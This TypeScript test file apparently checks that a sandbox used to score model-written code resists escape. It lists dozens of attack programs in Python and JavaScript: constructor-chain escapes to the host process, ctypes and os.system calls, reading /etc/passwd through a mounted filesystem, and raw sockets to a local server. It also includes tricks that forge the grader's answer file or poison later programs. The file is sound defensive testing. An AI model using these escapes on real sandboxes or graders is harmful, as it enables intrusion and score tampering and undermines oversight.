/**
 * Attacks by programs that a model writes: ways out of Pyodide, QuickJS and vm2 that worked once, in our words, and what spoils the score of
 * another program. Each tries to reach a server and a file of ours; after each, an honest program must give what it always gave.
 */
import { existsSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { CodeRunner } from '../../src/scores/code/code-runner.ts';
import { Harmed, type Attack } from './attack.ts';

/** `url`: a server that nobody may ask; `file`: one that nobody may write. */
type Escape = (url: string, file: string) => string;

const freed = 'import sys\nfor m in list(sys.modules):\n  if sys.modules[m] is None: del sys.modules[m]\n';
const text = JSON.stringify;

const python: Readonly<Record<string, Escape>> = {
  'fetch of js': (url) => `${freed}import js\njs.fetch(${text(url)})`,
  'eval of js': (url) => `${freed}import js\njs.eval("fetch('${url}')")`,
  'loadPackage of pyodide_js': (url) => `${freed}import pyodide_js\npyodide_js.loadPackage(${text(`${url}/x.whl`)})`,
  'loadPackage, later': (url) =>
    `${freed}import pyodide_js, asyncio\nasyncio.ensure_future(pyodide_js.loadPackage(${text(`${url}/x.whl`)}))`,
  run_js: (url) => `${freed}from pyodide.code import run_js\nrun_js("fetch('${url}')")`,
  'run_js, by a dynamic import': () => `${freed}from pyodide.code import run_js\nrun_js("import('node:net')")`,
  pyfetch: (url) => `${freed}from pyodide.http import pyfetch\nimport asyncio\nasyncio.ensure_future(pyfetch(${text(url)}))`,
  open_url: (url) => `${freed}from pyodide.http import open_url\nopen_url(${text(url)})`,
  'the core module': () => `${freed}import _pyodide_core\nprint(dir(_pyodide_core))\n_pyodide_core.js2python(1)`,
  'modules as JavaScript has them': () =>
    `import sys\nf = [f for f in sys.meta_path if "Js" in type(f).__name__][0]\nprint(f.jsproxies["js"].globalThis)`,
  'a proxy found among all objects': (url) =>
    `import gc\nfor o in gc.get_objects():\n  if "JsProxy" in type(o).__name__: print(o.constructor.constructor("fetch('${url}')")())\nraise SystemError`,
  'a proxy of its class': () =>
    'def all(c):\n  for s in c.__subclasses__():\n    yield s\n    yield from all(s)\nfor c in list(all(object)):\n  if "JsProxy" in c.__name__: print(c.new())\nraise SystemError',
  'what a proxy was made of': () => `${freed}import pyodide_js\nprint(pyodide_js.loadPackage.constructor("return process")())`,
  'a constructor of a constructor': (url) =>
    `${freed}import js\njs.Object.constructor.constructor("return fetch")()(${text(url)})`,
  'a mark for the next program': () => `${freed}import js\njs.poison = 1\njs.globalThis.poison = 1`,
  'push of all lists': () => `${freed}from pyodide.code import run_js\nrun_js("Array.prototype.push = () => 0")`,
  'stringify of JSON': () => `${freed}import js\njs.JSON.stringify = None\njs.JSON.parse = None`,
  'a timer of JavaScript': (url) =>
    `${freed}import js\nfrom pyodide.ffi import create_proxy\njs.setTimeout(create_proxy(lambda *a: js.fetch(${text(url)})), 1)`,
  'a promise kept later': () =>
    `${freed}import js\nfrom pyodide.ffi import create_proxy\njs.Promise.resolve().then(create_proxy(lambda *a: setattr(js, "poison", 1)))`,
  'a task left behind': (url) =>
    `import asyncio\nasyncio.get_event_loop().call_later(0, lambda: __import__("js").fetch(${text(url)}))`,
  'files of the machine': () =>
    `${freed}import pyodide_js\npyodide_js.mountNodeFS("/mnt", "/etc")\nprint(open("/mnt/passwd").read())`,
  'the file system of emscripten': () =>
    `${freed}import pyodide_js\nprint(pyodide_js.FS.filesystems.NODEFS)\npyodide_js._module.quit(0)`,
  'ctypes to emscripten_run_script': (url) =>
    `${freed}import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch('${url}')")`,
  'ctypes to system': (_, file) => `${freed}import ctypes\nctypes.CDLL(None).system(b"touch ${file}")`,
  'ctypes to any address': () => `${freed}import ctypes\nctypes.memset(0, 65, 1 << 20)\nctypes.CFUNCTYPE(None)(12345)()`,
  'a closure of ctypes': () => `${freed}import ctypes\nctypes.CFUNCTYPE(None)(lambda: None)()`,
  'a library': (_, file) =>
    `open("/x.so", "wb").write(b"\\0asm")\n${freed}import ctypes\nctypes.CDLL("/x.so")\nprint(${text(file)})`,
  'os.system': (_, file) => `import os\nos.system("touch ${file}")`,
  'os.popen': (_, file) => `import os\nos.popen("touch ${file}").read()`,
  posix_spawn: (_, file) => `import os\nos.posix_spawn("/bin/touch", ["touch", ${text(file)}], {})`,
  subprocess: (_, file) => `${freed}import subprocess\nsubprocess.run(["touch", ${text(file)}])`,
  'the socket under everything': (url) =>
    `${freed}import _socket\ns = _socket.socket()\ns.connect(("127.0.0.1", ${new URL(url).port}))\ns.send(b"GET / HTTP/1.0\\r\\n\\r\\n")`,
  'a name to be resolved': () => `${freed}import _socket\n_socket.getaddrinfo("localhost", 80)`,
  urllib: (url) => `${freed}import urllib.request\nurllib.request.urlopen(${text(url)}).read()`,
  'writes a file': (_, file) =>
    `import os\nos.makedirs(os.path.dirname(${text(file)}), exist_ok=True)\nopen(${text(file)}, "w").write("x")`,
  'devices made anew': () =>
    'import os, stat\nfor i in range(16):\n  for j in range(8): os.mknod("/d%d_%d" % (i, j), stat.S_IFCHR | 0o666, os.makedev(i, j))',
  'the answer written by hand': () => 'open("/agoge-answer.json", "w").write(\'{"printed": 5}\')\nimport os\nos._exit(0)',
  'an answer that is a folder': () => 'import os\nos.mkdir("/agoge-answer.json")',
  'an answer that leads elsewhere': () => 'import os\nos.symlink("/dev/stdin", "/agoge-answer.json")',
  'an answer of another shape': () => 'import json\njson.dumps = lambda *a, **k: \'{"printed": {"length": -1}}\'',
  'an answer without a bottom': () =>
    'import json\njson.dumps = lambda *a, **k: \'{"returned": \' + "[" * 200000 + "]" * 200000 + "}"',
  'the frames of the harness': () =>
    'import sys\nf = sys._getframe()\nwhile f:\n  f.f_locals.clear() if f.f_code.co_name != "<module>" else None\n  f = f.f_back',
  'a file named like a prototype': () =>
    'open("/__proto__", "w").write("x")\nimport os\nos.mkdir("/constructor")\nos.listdir("/")',
  'the library rewritten': () =>
    'import sys\nfor p in list(sys.path):\n  try: open(p, "w").write("x")\n  except OSError: pass\nopen("/json.py", "w").write("1/0")',
  'code that is no code': () =>
    'f = lambda: None\nf.__code__ = f.__code__.replace(co_code=b"\\x7c\\xff" * 64 + b"\\x53\\x00")\nf()',
  'a signal in a while': () =>
    'import signal\nsignal.signal(signal.SIGALRM, lambda *a: None)\nsignal.setitimer(signal.ITIMER_REAL, 0.001)',
  'the last word': () =>
    'import atexit, weakref\nclass A:\n  def __del__(self):\n    while True: pass\na = A()\natexit.register(print)\nweakref.finalize(a, print)',
  'a fault on purpose': () => 'import faulthandler\nfaulthandler._sigsegv()',
  'an abort': () => 'import os\nos.abort()',
};

const host = (url: string): string => `fetch('${url}')`;
const javascript: Readonly<Record<string, Escape>> = {
  'the constructor of this': (url) => `this.constructor.constructor("return process")().mainModule; ${host(url)}`,
  'the error of a deep stack': (url) =>
    `try { (function f() { f() })() } catch (e) { e.constructor.constructor("${host(url)}")() }`,
  'a promise of import': (url) => `import("node:net").then(null, (e) => e.constructor.constructor("${host(url)}")())`,
  'frames by prepareStackTrace': (url) =>
    `Error.prepareStackTrace = (_, frames) => frames; for (const f of [].concat(new Error().stack)) f.getThis().constructor.constructor("${host(url)}")()`,
  'an Error of its own with frames': (url) =>
    `globalThis.Error = function () {}; Error.prepareStackTrace = (e, f) => f[0].getFunction().constructor("${host(url)}")(); null.x`,
  'frames of a promise that failed': (url) =>
    `Error.prepareStackTrace = (e, f) => f.constructor.constructor("${host(url)}")(); (async () => { null.x })()`,
  'set of all maps': () => 'WeakMap.prototype.set = Map.prototype.set = () => { throw null }; print(1)',
  'a name that closes the program': () =>
    'try { throw 1 } catch ({ constructor: { constructor: c } }) { c("return process")().exit() }',
  'the prototype of a proxy': (url) =>
    `const p = new Proxy({}, { getPrototypeOf() { throw { constructor: { constructor: () => ${text(url)} } } } }); print(p instanceof Error, p)`,
  'a proxy that is called': () => 'print(new Proxy(function () {}, { apply: (...a) => a, get: (...a) => a[2] }))',
  'the species of promises': (url) =>
    `class P extends Promise { static get [Symbol.species]() { return function (f) { f((v) => v, (e) => e.constructor.constructor("${host(url)}")()) } } }; P.prototype.constructor = P; new P((r) => r()).then(print)`,
  'then of all promises': (url) =>
    `Promise.prototype.then = function (f) { return f.constructor.constructor("${host(url)}")() }; (async () => await 1)()`,
  'inspection of its own': () =>
    'print({ [Symbol.for("nodejs.util.inspect.custom")]: (d, o, i) => i.constructor("return process")(), toString: null })',
  'the caller': (url) => `(function f() { f.caller.constructor("${host(url)}")(); arguments.callee.caller() })()`,
  'values that change': () =>
    'let n = 0; print({ toString() { return n++ ? {} : "x" } }); process.stdout.write({ toString() { throw 1 } })',
  'toJSON of everything': () => 'Object.prototype.toJSON = String.prototype.toJSON = () => ({ printed: 1 }); print({})',
  'a trap on results': () =>
    'for (const k of ["returned", "printed", "error"]) Object.defineProperty(Object.prototype, k, { set() { throw 1 }, get() { return 1 } }); print(1)',
  'methods of lists': () => 'Array.prototype.push = Array.prototype.map = Array.prototype.join = () => ({}); print(1)',
  'getters in what is thrown': () => 'throw { get message() { throw 1 }, get name() { throw 2 }, get stack() { for (;;) {} } }',
  'a proxy thrown': () => 'throw new Proxy({}, { get() { throw 1 }, ownKeys() { throw 2 } })',
  'nothing thrown': () => 'throw undefined',
  'a symbol thrown': () => 'throw Symbol("x")',
  'millions of letters thrown': () => 'throw new Error("x".repeat(1e7))',
  'itself as the cause': () => 'const e = new Error("a"); e.cause = e; e.toString = () => e; throw e',
  'modules of the engine': (_, file) =>
    `import("std").then((s) => s.open(${text(file)}, "w"), print); import("os").then((o) => o.exec(["touch", ${text(file)}]), print)`,
  'a module that stands first': (_, file) => `import * as std from "std"; std.open(${text(file)}, "w")`,
  'code in the engine’s own words': () => 'bjson.read(new ArrayBuffer(64), 0, 64)',
  'proxies in proxies': () => 'let p = []; for (let i = 0; i < 1e5; i++) p = new Proxy(p, {}); print(Array.isArray(p))',
  'a sort that frees what it sorts': () =>
    'const b = new ArrayBuffer(4096, { maxByteLength: 8192 }); const a = new Float64Array(b); a.sort(() => (b.resize?.(0), b.transfer?.(), 1)); print(a.length)',
  'a value that frees its buffer': () =>
    'const b = new ArrayBuffer(1 << 16, { maxByteLength: 1 << 17 }); new Uint8Array(b).fill({ valueOf: () => (b.resize?.(0), 7) }); new DataView(b).setFloat64({ valueOf: () => (b.resize?.(0), 0) }, 1)',
  'a list that shrinks while it is joined': () =>
    'const a = Array(1e5).fill({ toString() { a.length = 0; return "x" } }); print(a.join().length, [...a, ...a].concat(a).length)',
  'a list longer than counting': () =>
    'const a = []; a.length = 2 ** 32 - 1; a.splice(0, 1, ...Array(1e4)); print(Array.prototype.concat.call(a, a).length)',
  'an iterator that comes back': () =>
    'const it = { [Symbol.iterator]: () => it, next: () => it.return(), return() { return it.next() } }; const [a] = it',
  'a generator that returns in its finally': () =>
    'function* g() { try { yield* g() } finally { return yield } }; const i = g(); for (let n = 0; n < 1e4; n++) i.return(i)',
  'a pattern beyond counting': () => 'new RegExp("(?:a{0,65535}){0,65535}".repeat(20) + "(".repeat(50000))',
  'a pattern that looks back': () => 'print(/(?<=(a|ab)*)\\1+$/.exec("ab".repeat(3000) + "c"))',
  'a number of a million digits': () => 'print((7n ** 3000000n).toString().length)',
  'collected later': () =>
    'const r = new FinalizationRegistry(() => { for (;;) {} }); for (let i = 0; i < 1e4; i++) r.register({}, i)',
  'waits for ever': () => 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)',
  'says that it was interrupted': () => 'throw new InternalError("interrupted")',
  'says that memory is out': () => 'throw new InternalError("out of memory")',
  'says that the engine broke': () => 'throw new Error("unreachable: memory access out of bounds, stack overflow")',
  'files by require': (_, file) => `require("fs").writeFileSync(${text(file)}, "x")`,
  'a process': (_, file) => `require("child_process").execSync("touch ${file}")`,
};

const limits = ['SANDBOX_TIME', 'SANDBOX_MEMORY', 'SANDBOX_OUTPUT', 'SANDBOX_CRASHED'];

interface Guests {
  readonly area: string;
  readonly programs: Readonly<Record<string, Escape>>;
  readonly honest: string;
  readonly gives: string;
}

const guests = {
  python: {
    area: 'Python',
    programs: python,
    honest:
      'import json\nx = [3, 1]\nx.append(int(input()))\nprint(sorted(x), json.dumps({"a": [1.5, None]}), "poison" in globals())',
    gives: '[1, 2, 3] {"a": [1.5, null]} False\n',
  },
  javascript: {
    area: 'JavaScript',
    programs: javascript,
    honest:
      'const x = [3, 1]; x.push(Number(readline())); print(x.sort().join(), JSON.stringify({ a: [1.5, null] }), typeof poison)',
    gives: '1,2,3 {"a":[1.5,null]} undefined\n',
  },
} satisfies Record<string, Guests>;

/** Every program of a language, to be tried one after another: they share a sandbox, as programs do in a training run. */
export function programAttacks(language: keyof typeof guests, runner: () => CodeRunner): Attack[] {
  const { area, programs, honest, gives } = guests[language];
  return Object.entries(programs).map(([name, escape]): Attack => ({
    area,
    name,
    attempt: async (folder) => {
      let asked = 0;
      const server = createServer((_, response) => response.end(String(++asked)));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const file = join(folder, 'written-by-a-program');
      try {
        const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
        await runner()
          .run(escape(url, file), [''])
          .catch((thrown: unknown) => {
            // By its code, since the sandbox may come out of the build.
            if (!limits.includes((thrown as { code?: string }).code ?? ''))
              throw new Harmed(`the sandbox failed: ${String(thrown)}`);
          });
        const [run] = await runner().run(honest, ['2']);
        if (!run || !('printed' in run) || run.printed !== gives)
          throw new Harmed(`the next program gave ${JSON.stringify(run)}`);
        if (asked > 0) throw new Harmed('a server was asked');
        if (existsSync(file)) throw new Harmed('a file was written');
      } finally {
        server.closeAllConnections();
        server.close();
      }
    },
  }));
}
